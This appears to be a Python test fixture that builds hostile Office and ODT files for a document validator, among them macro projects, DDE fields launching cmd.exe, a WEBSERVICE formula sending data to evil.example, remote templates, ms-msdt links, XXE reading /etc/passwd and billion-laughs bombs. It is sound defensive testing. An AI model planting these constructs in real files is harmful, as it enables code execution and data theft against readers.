"""Office files: macros, objects, templates and pictures from elsewhere, commands in fields."""

import io
import zipfile

from tests.core.hostile.sample import Sample

TYPES = "http://schemas.openxmlformats.org/package/2006/content-types"
RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
SHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
STATED = "application/vnd.openxmlformats-officedocument"
MAIN = {
    "docx": ("word/document.xml", f"{STATED}.wordprocessingml.document.main+xml"),
    "xlsx": ("xl/workbook.xml", f"{STATED}.spreadsheetml.sheet.main+xml"),
    "pptx": ("ppt/presentation.xml", f"{STATED}.presentationml.presentation.main+xml"),
}
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'


def relation(kind, target, *, external=False):
    mode = ' TargetMode="External"' if external else ""
    kind = kind if kind.startswith("http") else f"{OFFICE}/{kind}"
    return f'<Relationship Id="r{abs(hash(target)) % 9999}" Type="{kind}" Target="{target}"{mode}/>'


def relations(*rows):
    return f'{HEAD}<Relationships xmlns="{RELATIONS}">{"".join(rows)}</Relationships>'


def body(inner="<w:p><w:r><w:t>Kính gửi Ủy ban</w:t></w:r></w:p>"):
    return f'{HEAD}<w:document xmlns:w="{WORD}"><w:body>{inner}</w:body></w:document>'


def contents(kind, *more, stated=None):
    main, usual = MAIN[kind]
    rows = "".join(f'<Override PartName="{part}" ContentType="{what}"/>' for part, what in more)
    return (
        f'{HEAD}<Types xmlns="{TYPES}"><Default Extension="xml" ContentType="application/xml"/>'
        f'<Default Extension="rels" ContentType="{STATED}.relationships+xml"/>'
        f'<Override PartName="/{main}" ContentType="{stated or usual}"/>{rows}</Types>'
    )


def parts(kind="docx", extra=None, **options):
    """The parts of a minimal file, as a mapping that keeps its order."""
    main = MAIN[kind][0]
    inner = body() if kind == "docx" else f'{HEAD}<workbook xmlns="{SHEET}"/>'
    return {
        "[Content_Types].xml": contents(kind, **options),
        "_rels/.rels": relations(relation("officeDocument", main)),
        main: inner,
        **(extra or {}),
    }


def packed(content, *, comment=b""):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in content.items():
            archive.writestr(name, data)
        archive.comment = comment
    return out.getvalue()


def office(kind="docx", extra=None, **options):
    return packed(parts(kind, extra, **options))


def docx(inner):
    return lambda: office(extra={"word/document.xml": body(inner)})


def related(kind, target, *, external=True, owner="word/_rels/document.xml.rels"):
    return lambda: office(extra={owner: relations(relation(kind, target, external=external))})


def with_part(name, data="x", kind="docx"):
    return lambda: office(kind, {name: data})


def field(command):
    return docx(
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f"<w:r><w:instrText>{command}</w:instrText></w:r></w:p>"
    )


def sheet(cell):
    row = f'<sheetData><row r="1">{cell}</row></sheetData>'
    part = f'{HEAD}<worksheet xmlns="{SHEET}">{row}</worksheet>'
    return lambda: office("xlsx", {"xl/worksheets/sheet1.xml": part})


def laughs(encoding="UTF-8"):
    entities = '<!ENTITY a0 "ha">' + "".join(
        f'<!ENTITY a{level} "{f"&a{level - 1};" * 10}">' for level in range(1, 12)
    )
    text = f'<?xml version="1.0" encoding="{encoding}"?><!DOCTYPE x [{entities}]><x>&a11;</x>'
    return lambda: office(extra={"word/document.xml": text.encode(encoding)})


def entity(place):
    text = f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "{place}">]><x>&e;</x>'
    return lambda: office(extra={"word/document.xml": text})


def deep(levels):
    return docx("<w:p>" * levels + "</w:p>" * levels)


TEXT_TYPE = b"application/vnd.oasis.opendocument.text"


def odt(content="<text:p>Kính gửi</text:p>", extra=None):
    out = io.BytesIO()
    spaces = "".join(
        f' xmlns:{short}="urn:oasis:names:tc:opendocument:xmlns:{short}:1.0"'
        for short in ("office", "text", "draw", "script", "table")
    )
    xml = (
        f'{HEAD}<office:document-content{spaces} xmlns:xlink="http://www.w3.org/1999/xlink">'
        f"<office:body><office:text>{content}</office:text></office:body></office:document-content>"
    )
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(zipfile.ZipInfo("mimetype"), TEXT_TYPE)
        for name, data in {"content.xml": xml, **(extra or {})}.items():
            archive.writestr(name, data)
    return out.getvalue()


MACRO_TYPE = "application/vnd.ms-word.document.macroEnabled.main+xml"
INNER, OUTER = ("embedded-object",), ("external-content",)
SAMPLES = [
    Sample("a macro project in a DOCX", "a.docx", with_part("word/vbaProject.bin", OLE),
           refused=("macro",)),
    Sample("a DOCM called DOCX", "a.docx", lambda: office(stated=MACRO_TYPE), refused=("macro",)),
    Sample("a DOCM", "a.docm", lambda: office(stated=MACRO_TYPE), refused=("macro",)),
    Sample("a macro project under another name", "a.xlsx",
           lambda: office("xlsx", {"xl/x.bin": OLE}), refused=INNER),
    Sample("a macro sheet of Excel 4", "a.xlsx", with_part("xl/macrosheets/sheet1.xml", "<x/>",
           kind="xlsx"), refused=("macro",)),
    Sample("a relationship to a macro project", "a.docx",
           related("http://schemas.microsoft.com/office/2006/relationships/vbaProject", "x.xml",
                   external=False), refused=("macro",)),
    Sample("a button that starts a macro", "a.docx", field("MACROBUTTON Run bam vao day"),
           refused=("active-field",)),
    Sample("a ribbon with commands", "a.docx",
           related("http://schemas.microsoft.com/office/2006/relationships/ui/extensibility",
                   "customUI/customUI.xml", external=False), refused=("macro",)),
    Sample("an OLE object", "a.docx", with_part("word/embeddings/oleObject1.bin", OLE),
           refused=INNER),
    Sample("an OLE object called a picture", "a.docx", with_part("word/media/image1.png", OLE),
           refused=INNER),
    Sample("an OLE object in the text", "a.docx",
           docx('<w:object xmlns:o="urn:o"><o:OLEObject Type="Link"/></w:object>'), refused=INNER),
    Sample("an ActiveX control", "a.docx", with_part("word/activeX/activeX1.xml", "<x/>"),
           refused=("macro",)),
    Sample("a program in a DOCX", "a.docx", with_part("word/a.exe", b"MZ"), refused=INNER),
    Sample("a program called a picture", "a.docx", with_part("word/media/a.png", b"MZ\x90"),
           refused=INNER),
    Sample("a DOCM inside a DOCX", "a.docx",
           lambda: office(extra={"word/embeddings/a.docx": office(stated=MACRO_TYPE)}),
           refused=("macro",)),
    Sample("DOCX in DOCX in DOCX", "a.docx", lambda: office(extra={"word/embeddings/a.docx": office(
           extra={"word/embeddings/b.docx": office()})}), refused=INNER),
    Sample("a page taken in as text", "a.docx", related("aFChunk", "a.html", external=False),
           refused=INNER),
    Sample("a template from elsewhere", "a.docx",
           related("attachedTemplate", "https://evil.example/t.dotm",
                   owner="word/_rels/settings.xml.rels"), refused=OUTER),
    Sample("a template on a share", "a.docx",
           related("attachedTemplate", "file://\\\\evil\\t.dotm",
                   owner="word/_rels/settings.xml.rels"), refused=OUTER),
    Sample("a picture that reports the reader", "a.docx",
           related("image", "https://evil.example/pixel.png"), refused=OUTER),
    Sample("a frame from elsewhere", "a.docx", related("frame", "https://evil.example/"),
           refused=(*OUTER, *INNER)),
    Sample("a link that starts a program", "a.docx",
           related("hyperlink", "ms-msdt:/id PCWDiagnostic"), refused=OUTER),
    Sample("a link in a DOCX that is a script", "a.docx",
           related("hyperlink", "javascript:alert(1)"),
           refused=OUTER),
    Sample("a relationship that climbs out", "a.docx",
           related("image", "../../../../../../etc/passwd", external=False), refused=OUTER),
    Sample("a workbook linked to another", "a.xlsx",
           lambda: office("xlsx", {"xl/_rels/workbook.xml.rels": relations(
               relation("externalLink", "externalLinks/externalLink1.xml"))}), refused=OUTER),
    Sample("a table fetched from a database", "a.xlsx",
           lambda: office("xlsx", {"xl/_rels/workbook.xml.rels": relations(
               relation("connections", "connections.xml"))}), refused=OUTER),
    Sample("a DDE field", "a.docx", field(r"DDEAUTO c:\\system32\\cmd.exe &quot;/k calc&quot;"),
           refused=("active-field",)),
    Sample("a DDE field in pieces", "a.docx",
           docx("".join(f"<w:r><w:instrText>{part}</w:instrText></w:r>" for part in
                        ("D", "DEA", "UTO c:\\\\cmd.exe"))), refused=("active-field",)),
    Sample("a DDE field spelled in numbers", "a.docx", field("QUOTE 68 68 69 65 85 84 79"),
           refused=("active-field",)),
    Sample("a DDE field in an attribute", "a.docx",
           docx('<w:fldSimple w:instr="DDE cmd /c"/>'), refused=("active-field",)),
    Sample("a picture fetched by a field", "a.docx",
           field("INCLUDEPICTURE https://evil.example/a.png"), refused=("active-field",)),
    Sample("a formula that starts a program", "a.xlsx",
           sheet("<c r='A1'><f>cmd|'/C calc'!A0</f></c>"), refused=("active-field",)),
    Sample("a formula that sends data away", "a.xlsx",
           sheet('<c r="A1"><f>WEBSERVICE("http://evil.example/"&amp;A2)</f></c>'),
           refused=("active-field",)),
    Sample("a slide that starts a program", "a.pptx",
           with_part("ppt/slides/slide1.xml",
                     f'{HEAD}<x xmlns:a="urn:a"><a:hlinkClick action="ppaction://program"/></x>',
                     kind="pptx"), refused=("active-field",)),
    Sample("entities that laugh a billion times", "a.docx", laughs(), refused=("xml-bomb",)),
    Sample("the same in UTF-16", "a.docx", laughs("UTF-16"), refused=("odd-encoding",)),
    Sample("an entity that reads a file", "a.docx", entity("file:///etc/passwd"),
           refused=("xml-external",)),
    Sample("an entity that calls home", "a.docx", entity("http://evil.example/"),
           refused=("xml-external",)),
    Sample("an XML in another alphabet", "a.docx",
           lambda: office(extra={
               "word/document.xml": '<?xml version="1.0" encoding="IBM037"?><x/>'}),
           refused=("odd-encoding",)),
    Sample("XML nested bottomlessly", "a.docx", deep(100_000), refused=("too-costly",)),
    Sample("broken XML", "a.docx", docx("<w:p>"), refused=("unreadable",)),
    Sample("a picture with a script", "a.docx",
           with_part("word/media/a.svg", "<svg xmlns='x'><script>alert(1)</script></svg>"),
           refused=INNER),
    Sample("an ODT with a script", "a.odt", lambda: odt(extra={"Basic/Standard/a.xml": "<x/>"}),
           refused=("macro",)),
    Sample("an ODT that runs on opening", "a.odt",
           lambda: odt('<script:event-listener script:event-name="dom:load"/>'),
           refused=("macro",)),
    Sample("an ODT with a picture from elsewhere", "a.odt",
           lambda: odt('<draw:image xlink:href="https://evil.example/a.png"/>'), refused=OUTER),
    Sample("an ODT with an object", "a.odt", lambda: odt(extra={"Object 1": OLE}), refused=INNER),
    Sample("an ODT with a password", "a.odt", lambda: odt(extra={
           "META-INF/manifest.xml": "<m><encryption-data/></m>"}), refused=("encrypted",)),
    Sample("a Word file of old", "a.doc", lambda: OLE + bytes(5000), refused=("old-office",)),
    Sample("a Word file of old called DOCX", "a.docx", lambda: OLE, refused=("old-office",)),
    Sample("a DOCX with a password", "a.docx",
           lambda: OLE + "EncryptedPackage".encode("utf-16-le"), refused=("encrypted",)),
]  # fmt: skip
